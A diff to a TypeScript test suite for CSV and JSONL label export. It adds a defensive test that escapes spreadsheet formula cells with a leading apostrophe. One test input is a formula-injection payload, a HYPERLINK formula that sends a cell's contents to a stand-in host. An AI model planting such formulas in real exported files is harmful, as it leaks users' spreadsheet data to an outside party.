@@ -45,6 +45,11 @@ describe('labels export', () => {
     expect(toCsv(['h'], [['1']], { bom: true })).toBe('\uFEFFh\r\n1\r\n');
   });
 
+  it('writes cells that a spreadsheet would run as a formula with a leading apostrophe, numbers as they are', () => {
+    const cells = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '-0.5', '+3', '1e-3', 'a=b'];
+    expect(cells.map(csvField)).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"', "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", '-0.5', '+3', '1e-3', 'a=b']);
+  });
+
   it('CSV parses back to the same labels and texts', () => {
     const csv = labelsCsv(dataset, labels);
     const r = parseDelimited(csv, 'csv');
@@ -65,6 +70,7 @@ describe('labels export', () => {
   it('comparison CSV names the two responses; JSONL has one record per labeled item', () => {
     const cmp: Dataset = { ...dataset, kind: 'comparison', items: dataset.items.map((it) => ({ ...it, response2: 'other' })) };
     expect(labelsCsv(cmp, labels).split('\r\n')[0]).toBe('id,group,key,question,response1,response2,label,confidence,provenance');
+    expect(JSON.parse(labelsJsonl(cmp, labels).split('\n')[0])).toEqual({ id: 'a', group: 'g1', key: 'k1', question: 'Why, "exactly"?', response1: 'Two\r\nlines, one "quote"', response2: 'other', label: true, confidence: 0.8, provenance: 'icm' });
     const lines = labelsJsonl(dataset, labels).trimEnd().split('\n').map((l) => JSON.parse(l) as unknown);
     expect(lines).toEqual([
       { id: 'a', group: 'g1', key: 'k1', question: 'Why, "exactly"?', claim: 'Two\r\nlines, one "quote"', label: true, confidence: 0.8, provenance: 'icm' },
